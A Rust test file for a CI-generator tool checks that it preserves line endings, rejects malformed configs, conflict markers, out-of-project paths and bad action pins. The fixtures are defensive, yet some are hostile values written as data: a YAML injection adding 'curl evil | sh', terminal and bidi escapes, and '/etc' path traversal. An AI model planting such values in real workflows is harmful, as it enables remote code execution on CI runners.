//! Issue 14, findings 3, 4, 5, 7 and 8: the bytes of the maintainer's files, config shapes that
//! panicked, leftover conflict markers, honest help, and values that escape the project or a
//! YAML reader's lines. (Finding 1 is in hostile_server.rs, 2 in signals.rs, 6 in
//! transaction.rs.)

use std::fs;
use std::path::Path;

use predicates::prelude::*;

use crate::common::{GENERATED, Project};
use crate::pin::{FakeGitHub, pin, routes, sha};
use crate::transaction::assert_refused;

const REUSABLE: &str = GENERATED[0];
const RUNNER: &str = GENERATED[3];
const LOCK: &str = ".gpu-ci.lock";

fn set_config(project: &Project, from: &str, to: &str) {
    let text = project.read("pyproject.toml");
    assert!(text.contains(from), "{text}");
    project.write("pyproject.toml", &text.replacen(from, to, 1));
}

#[test]
fn finding_3_init_and_pin_keep_crlf_line_ends_and_a_bom() {
    let project = Project::fixture("uv-groups-src");
    let original = format!(
        "\u{feff}{}",
        project.read("pyproject.toml").replace('\n', "\r\n")
    );
    project.write("pyproject.toml", &original);
    project.gpu_ci(&["init", "--yes"]).success();
    let after = project.read("pyproject.toml");
    assert!(after.starts_with(&original), "{after:?}");
    let added = &after[original.len()..];
    assert!(
        added.contains("[tool.gpu-ci]\r\ngpu = \"L4\"\r\n"),
        "{added:?}"
    );
    assert!(
        !added.replace("\r\n", "").contains('\n'),
        "a new line without \\r: {added:?}"
    );
    project.gpu_ci(&["update", "--check"]).success();

    let server = FakeGitHub::start(routes());
    pin(&project, &server, &[]).assert().success();
    let pinned = project.read("pyproject.toml");
    assert!(pinned.starts_with(&original), "{pinned:?}");
    assert!(pinned.contains(&format!(
        "[tool.gpu-ci.actions]\r\n\"actions/checkout\" = \"{} # v4.3.1\"\r\n",
        sha(0x431)
    )));
    assert!(!pinned.replace("\r\n", "").contains('\n'), "{pinned:?}");
}

#[test]
fn finding_3_a_symlinked_pyproject_is_written_through_to_its_target() {
    let project = Project::fixture("extras-flat");
    fs::create_dir(project.path("config")).unwrap();
    fs::rename(
        project.path("pyproject.toml"),
        project.path("config/pyproject.toml"),
    )
    .unwrap();
    std::os::unix::fs::symlink("config/pyproject.toml", project.path("pyproject.toml")).unwrap();
    project.gpu_ci(&["init", "--yes"]).success();
    let link = fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
    assert!(link.file_type().is_symlink(), "the link was replaced");
    assert_eq!(
        fs::read_link(project.path("pyproject.toml")).unwrap(),
        Path::new("config/pyproject.toml")
    );
    assert!(
        project
            .read("config/pyproject.toml")
            .contains("[tool.gpu-ci]")
    );
    project.gpu_ci(&["update", "--check"]).success();

    // A link out of the project is refused: gpu-ci writes only inside it.
    let project = Project::fixture("extras-flat");
    let elsewhere = tempfile::tempdir().unwrap();
    let outside = elsewhere.path().join("pyproject.toml");
    fs::rename(project.path("pyproject.toml"), &outside).unwrap();
    std::os::unix::fs::symlink(&outside, project.path("pyproject.toml")).unwrap();
    let before = fs::read(&outside).unwrap();
    assert_refused(
        &project,
        &["init", "--yes"],
        "error: cannot write `pyproject.toml`: it is a symbolic link to `",
    );
    assert_eq!(before, fs::read(&outside).unwrap());
}

#[test]
fn finding_4_odd_shapes_of_tool_gpu_ci_are_errors_not_panics() {
    let cases = [
        (
            "tool = 5\n",
            "error: `tool` in pyproject.toml is an integer, not a table",
        ),
        (
            "tool = { black = { line-length = 100 } }\n",
            "error: `tool` in pyproject.toml is an inline table (`tool = {…}`)",
        ),
        (
            "[tool]\ngpu-ci = { gpu = \"L4\" }\n",
            "error: `tool.gpu-ci` in pyproject.toml is an inline table (`gpu-ci = {…}`)",
        ),
        (
            "[[tool.gpu-ci]]\ngpu = \"L4\"\n",
            "error: `[[tool.gpu-ci]]` in pyproject.toml is an array of tables",
        ),
        (
            "[tool]\ngpu-ci = \"L4\"\n",
            "error: `tool.gpu-ci` in pyproject.toml is a string, not a table of settings",
        ),
    ];
    for (shape, message) in cases {
        let project = Project::empty();
        project.write("tests/test_x.py", "def test_x():\n    pass\n");
        let table = "[project]\nname = \"x\"\nversion = \"0.1\"\n";
        // A top-level key must come before the first table.
        let text = if shape.starts_with('[') {
            format!("{table}\n{shape}")
        } else {
            format!("{shape}{table}")
        };
        project.write("pyproject.toml", &text);
        for args in [
            &["init", "--yes"][..],
            &["init", "--yes", "--dry-run", "--diff"],
            &["update"],
            &["update", "--check"],
            &["config"],
        ] {
            assert_refused(&project, args, message);
        }
    }
}

/// An initialised project whose `_modal-gpu-tests.yml` holds a conflict from `update`.
fn conflicted() -> Project {
    let project = Project::initialised("uv-groups-src");
    let edited = project.read(REUSABLE).replace(
        "          MODAL_GPU: ${{ inputs.gpu || vars.MODAL_GPU || 'L4' }}\n",
        "          MODAL_GPU: ${{ inputs.gpu || 'T4' }}\n",
    );
    project.write(REUSABLE, &edited);
    set_config(&project, "gpu = \"L4\"", "gpu = \"H100\"");
    project.gpu_ci(&["update"]).code(1);
    assert!(project.read(REUSABLE).contains("<<<<<<< yours"));
    project
}

#[test]
fn finding_5_update_check_fails_on_leftover_conflict_markers() {
    let project = conflicted();
    let message = format!("error: unresolved conflict markers in `{REUSABLE}`");
    for args in [&["update", "--check"][..], &["update"]] {
        let before = project.snapshot_tree();
        project
            .gpu_ci(args)
            .code(1)
            .stderr(predicate::str::contains(&message))
            .stderr(predicate::str::contains("up to date").not());
        assert_eq!(before, project.snapshot_tree(), "{args:?}");
    }
    // --dry-run warns and changes nothing.
    project
        .gpu_ci(&["update", "--dry-run", "--diff"])
        .success()
        .stderr(predicate::str::contains(format!(
            "warning: unresolved conflict markers in `{REUSABLE}`"
        )));

    // Resolved (keeping the maintainer's side), the check passes again.
    let text = project.read(REUSABLE);
    let resolved: String = {
        let mut out = String::new();
        let mut side = "";
        for line in text.split_inclusive('\n') {
            if line.starts_with("<<<<<<<") {
                side = "ours";
            } else if line.starts_with("=======") {
                side = "theirs";
            } else if line.starts_with(">>>>>>>") {
                side = "";
            } else if side != "theirs" {
                out.push_str(line);
            }
        }
        out
    };
    project.write(REUSABLE, &resolved);
    project.gpu_ci(&["update", "--check"]).success();
}

#[test]
fn finding_7_corrupt_lock_help_keeps_the_maintainers_edits() {
    let project = Project::initialised("uv-groups-src");
    let edited = format!("{}# our own step notes\n", project.read(REUSABLE));
    project.write(REUSABLE, &edited);
    project.write(LOCK, "{ not json");
    project
        .gpu_ci(&["update"])
        .code(2)
        .stderr(predicate::str::contains(
            "help: restore it from git, or delete `.gpu-ci.lock` and run `gpu-ci update`, which rebuilds it and keeps your edits",
        ))
        .stderr(predicate::str::contains("init --force").not());
    // Doing what the help says keeps the edit (`init --force` would not).
    fs::remove_file(project.path(LOCK)).unwrap();
    project.gpu_ci(&["update"]).success();
    assert_eq!(project.read(REUSABLE), edited);
    assert!(project.path(LOCK).is_file(), "update rebuilds the lock");
    project.gpu_ci(&["update", "--check"]).success();
}

#[test]
fn finding_7_a_hand_edited_hash_line_gets_an_accurate_message() {
    let project = Project::initialised("uv-groups-src");
    let text = project.read(REUSABLE);
    let at = text.find("gpu-ci-hash: ").unwrap() + "gpu-ci-hash: ".len();
    let edited = format!("{}0123456789abcdef{}", &text[..at], &text[at + 16..]);
    project.write(REUSABLE, &edited);
    set_config(&project, "gpu = \"L4\"", "gpu = \"H100\"");
    project
        .gpu_ci(&["update"])
        .code(1)
        .stderr(predicate::str::contains(format!(
            "error: cannot tell what gpu-ci wrote in `{REUSABLE}`: its `gpu-ci-hash:` line matches neither what `.gpu-ci.lock` records nor any copy in git history; was the line edited?"
        )))
        .stderr(predicate::str::contains("no lock").not())
        .stderr(predicate::str::contains("there is no").not());
    assert_eq!(project.read(REUSABLE), edited, "the file is left as it was");
}

#[test]
fn finding_8_a_crlf_working_copy_merges_line_by_line() {
    let project = Project::initialised("uv-groups-src");
    let edited = project
        .read(REUSABLE)
        .replace(
            "permissions: {}\n",
            "permissions: {}\n# our team: ping @gpu-owners on failure\n",
        )
        .replace('\n', "\r\n");
    project.write(REUSABLE, &edited);
    // An untouched file, checked out with CRLF too.
    project.write(RUNNER, &project.read(RUNNER).replace('\n', "\r\n"));
    set_config(&project, "gpu = \"L4\"", "gpu = \"H200\"");
    project
        .gpu_ci(&["update"])
        .success()
        .stderr(predicate::str::contains(format!("  merged {REUSABLE}")));
    let after = project.read(REUSABLE);
    assert!(!after.contains("<<<<<<<"), "{after}");
    assert!(after.contains("# our team: ping @gpu-owners on failure\r\n"));
    assert!(after.contains("vars.MODAL_GPU || 'H200' }}\r\n"));
    assert!(!after.replace("\r\n", "").contains('\n'), "LF crept in");
    // Exactly the lines that carry the setting (and the hash) changed.
    let changed = edited
        .lines()
        .zip(after.lines())
        .filter(|(a, b)| a != b)
        .count();
    assert!(changed <= 4, "{changed} lines changed");
    let runner = project.read(RUNNER);
    assert!(runner.contains("GPU_DEFAULT = \"H200\"\r\n"));
    assert!(!runner.replace("\r\n", "").contains('\n'));
    project.gpu_ci(&["update", "--check"]).success();
}

#[test]
fn finding_8_comments_in_the_actions_table_are_kept() {
    let project = Project::initialised("uv-groups-src");
    let table = "\n[tool.gpu-ci.actions]\n# reviewed by the security team\n\"actions/checkout\" = \"11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\"  # stay on v4\n";
    project.write(
        "pyproject.toml",
        &format!("{}{table}", project.read("pyproject.toml")),
    );
    // init --force rewrites the config, pin rewrites the pins: the comments stay.
    project.gpu_ci(&["init", "--yes", "--force"]).success();
    assert!(project.read("pyproject.toml").ends_with(table));
    let server = FakeGitHub::start(routes());
    pin(&project, &server, &[]).assert().success();
    let config = project.read("pyproject.toml");
    assert!(
        config.contains(&format!(
            "[tool.gpu-ci.actions]\n# reviewed by the security team\n\"actions/checkout\" = \"{} # v4.3.1\"  # stay on v4\n",
            sha(0x431)
        )),
        "{config}"
    );
}

#[test]
fn finding_8_a_test_path_outside_the_project_is_refused() {
    let project = Project::fixture("uv-groups-src");
    for path in ["/etc", "../../x", "tests/../../x", "tests /etc"] {
        assert_refused(
            &project,
            &["init", "--yes", "--test-path", path],
            "is outside the project",
        );
    }
    let project = Project::initialised("uv-groups-src");
    let text = project.read("pyproject.toml");
    let line = text
        .lines()
        .find(|l| l.starts_with("test-path = "))
        .unwrap()
        .to_string();
    set_config(&project, &line, "test-path = \"/etc\"");
    assert_refused(
        &project,
        &["update"],
        "error: `test-path` `/etc` is outside the project",
    );
}

#[test]
fn finding_8_unicode_line_separators_are_refused_in_text_values() {
    let project = Project::fixture("uv-groups-src");
    for args in ["-v\u{2028}-x", "-v\u{2029}", "-v\u{85}"] {
        assert_refused(
            &project,
            &["init", "--yes", "--pytest-args", args],
            "`pytest-args` may not contain newlines, other line separators (U+2028, U+2029)",
        );
    }
    let project = Project::initialised("uv-groups-src");
    set_config(
        &project,
        "pytest-args = \"-v\"",
        "pytest-args = \"-v\u{2028}-x\"",
    );
    assert_refused(&project, &["update"], "may not contain newlines");
}

/// Issue 20, item 9: `[tool.gpu-ci.actions]` values are checked as `pin` checks GitHub's
/// answers (40 lowercase hex digits, a `vX.Y.Z` comment) before anything is written; the
/// error names the key and shows the value escaped. init and update both refuse.
#[test]
fn issue_20_action_pins_in_the_config_are_checked_before_anything_is_written() {
    let good = "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2";
    let bad = [
        // Upper case: `pin` writes lower case, and GitHub names commits so.
        (
            "11BD71901BBE5B1630CEEA73D27597364C9AF683 # v4.2.2",
            "11BD71901BBE5B1630CEEA73D27597364C9AF683 # v4.2.2",
        ),
        // A branch, not a version.
        ("11bd71901bbe5b1630ceea73d27597364c9af683 # main", "# main"),
        // A line of YAML after the comment.
        (
            "11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\\n      - run: curl evil | sh",
            "v4.2.2\\n      - run: curl evil | sh",
        ),
        // A terminal escape and a bidi override in the version.
        (
            "11bd71901bbe5b1630ceea73d27597364c9af683 # v4\\u001b[2J\\u202e",
            "v4\\u{1b}[2J\\u{202e}",
        ),
        ("11bd719 # v4.2.2", "11bd719 # v4.2.2"),
    ];
    for (value, shown) in bad {
        let project = Project::fixture("uv-groups-src");
        let text = project.read("pyproject.toml");
        let config = format!(
            "{text}\n[tool.gpu-ci.actions]\n\"actions/checkout\" = \"{value}\"\n\"actions/setup-python\" = \"{good}\"\n"
        );
        project.write("pyproject.toml", &config);
        let before = project.snapshot_tree();
        let output = project
            .gpu_ci(&["init", "--yes"])
            .code(2)
            .get_output()
            .clone();
        let stderr = String::from_utf8(output.stderr).unwrap();
        assert!(
            stderr.starts_with("error: `actions.\"actions/checkout\"` = `")
                && stderr.contains(shown)
                && stderr.contains("is not a pin"),
            "{value}:\n{stderr}"
        );
        assert!(
            !stderr.contains('\u{1b}') && !stderr.contains('\u{202e}'),
            "{stderr:?}"
        );
        assert_eq!(before, project.snapshot_tree(), "init wrote: {value}");

        // The same value in a project that is set up: update refuses, nothing changes.
        let project = Project::initialised("uv-groups-src");
        let text = project.read("pyproject.toml");
        project.write(
            "pyproject.toml",
            &format!("{text}\n[tool.gpu-ci.actions]\n\"actions/checkout\" = \"{value}\"\n"),
        );
        let before = project.snapshot_tree();
        project
            .gpu_ci(&["update"])
            .code(2)
            .stderr(predicate::str::contains(
                "error: `actions.\"actions/checkout\"` = `",
            ));
        assert_eq!(before, project.snapshot_tree(), "update wrote: {value}");
    }
    // The good value passes, and reaches the workflows as written.
    let project = Project::fixture("uv-groups-src");
    let text = project.read("pyproject.toml");
    project.write(
        "pyproject.toml",
        &format!("{text}\n[tool.gpu-ci.actions]\n\"actions/checkout\" = \"{good}\"\n"),
    );
    project.gpu_ci(&["init", "--yes"]).success();
    assert!(
        project
            .read(REUSABLE)
            .contains(&format!("actions/checkout@{good}"))
    );
}
